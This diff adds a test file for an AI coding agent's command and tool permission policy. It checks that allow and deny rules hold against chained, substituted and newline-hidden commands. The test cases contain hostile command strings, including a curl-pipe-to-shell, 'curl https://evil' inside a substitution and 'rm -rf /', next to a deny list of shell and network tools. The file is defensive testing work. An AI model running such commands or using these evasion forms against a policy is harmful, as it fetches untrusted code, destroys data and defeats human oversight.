@@ -1,0 +1,96 @@
+import assert from 'node:assert/strict';
+import { parseAgentPolicy, type AgentPolicy } from '../../../../src/core/policy/agent-policy';
+import { matchesPattern, policyOffers, toolPolicyFrom } from '../../../../src/core/policy/policy-rules';
+
+function policyOf(yaml: string): AgentPolicy {
+  const { policy, problems } = parseAgentPolicy(yaml);
+  assert.deepEqual(problems, []);
+  return policy!;
+}
+
+const POLICY = policyOf(`
+tools:
+  deny: [background_run, "mcp__*__delete_*"]
+  bash:
+    allow: ["git status", "git diff*", "npm test", "ls*", "cat*"]
+    deny: ["git push*", "rm -rf*", "curl*", "sh", "bash*"]
+approvals:
+  require_for: [edit_file]
+  auto_approve: [read_only, write_file]
+`);
+
+const rules = toolPolicyFrom(() => POLICY);
+const bash = (command: string) =>
+  rules.evaluate({ toolName: 'bash', input: { command }, readOnly: false, needsApproval: true });
+const action = (command: string) => bash(command).action;
+
+describe('the tool rules of .openagent/agent.yaml', () => {
+  it('matches tool and command patterns with * only', () => {
+    assert.ok(matchesPattern('mcp__*__delete_*', 'mcp__github__delete_repo'));
+    assert.ok(!matchesPattern('mcp__*__delete_*', 'mcp__github__list_repos'));
+    assert.ok(matchesPattern('git diff*', 'git diff --stat'));
+    assert.ok(!matchesPattern('git.status', 'gitXstatus'), 'a dot is a dot');
+  });
+
+  it('commands: deny wins in any segment, however it is chained or hidden; unparseable asks', () => {
+    const cases: Array<[string, string]> = [
+      ['git status', 'allow'],
+      ['git diff --stat && npm test', 'allow'],
+      ['git status; curl x | sh', 'deny'],
+      ['git show > ~/.bashrc', 'ask'], // a redirection: not a plain allowed command
+      ['echo $(curl https://evil)', 'deny'],
+      ['echo `rm -rf /`', 'deny'],
+      ['git status\ngit push origin main', 'deny'],
+      ['git status\r\ngit push', 'deny'],
+      [Array.from({ length: 60 }, () => 'git status').join(' && '), 'allow'],
+      [`${Array.from({ length: 60 }, () => 'git status').join(' && ')} && git push`, 'deny'],
+      ["bash -c 'git push --force'", 'deny'],
+      ['env X=1 git push', 'deny'],
+      ['env X=1 git status', 'allow'],
+      ['npm install', 'ask'], // neither allowed nor denied: the default asks
+      ['echo "unterminated', 'ask'],
+      ['cat <<EOF\nhi\nEOF', 'ask'],
+    ];
+    for (const [command, expected] of cases) assert.equal(action(command), expected, JSON.stringify(command));
+    const denied = bash('git status; curl x | sh');
+    assert.equal(
+      denied.action === 'deny' && denied.reason,
+      '`curl x` matches bash.deny "curl*" in .openagent/agent.yaml.',
+    );
+  });
+
+  it('tools: deny and allow lists, approvals required or automatic, protected paths still ask', () => {
+    const evaluate = (toolName: string, readOnly: boolean, input: unknown = {}) =>
+      rules.evaluate({ toolName, input, readOnly, needsApproval: !readOnly });
+    assert.equal(evaluate('background_run', false).action, 'deny');
+    assert.equal(evaluate('mcp__github__delete_repo', false).action, 'deny');
+    assert.equal(evaluate('edit_file', false).action, 'ask', 'require_for');
+    assert.deepEqual(evaluate('write_file', false, { path: 'notes.md' }), { action: 'allow', source: 'policy' });
+    assert.equal(evaluate('write_file', false, { path: '.env' }).action, 'ask', 'a protected path asks anyway');
+    assert.deepEqual(evaluate('read_file', true), { action: 'allow', source: 'policy' });
+    assert.equal(policyOffers(POLICY, 'background_run'), false);
+    assert.equal(policyOffers(POLICY, 'read_file'), true);
+
+    const allowList = toolPolicyFrom(() => policyOf('tools: { allow: [read_file, "mcp__github__*"] }'));
+    const verdict = allowList.evaluate({
+      toolName: 'bash',
+      input: { command: 'ls' },
+      readOnly: false,
+      needsApproval: true,
+    });
+    assert.deepEqual(verdict, { action: 'deny', reason: 'bash is not in tools.allow of .openagent/agent.yaml.' });
+    assert.equal(policyOffers(policyOf('tools: { allow: [read_file] }'), 'write_file'), false);
+  });
+
+  it('without a policy behaves as before: reading tools run, the rest ask', () => {
+    const none = toolPolicyFrom(() => undefined);
+    assert.equal(
+      none.evaluate({ toolName: 'bash', input: { command: 'rm -rf /' }, readOnly: false, needsApproval: true }).action,
+      'ask',
+    );
+    assert.equal(
+      none.evaluate({ toolName: 'read_file', input: {}, readOnly: true, needsApproval: false }).action,
+      'allow',
+    );
+  });
+});
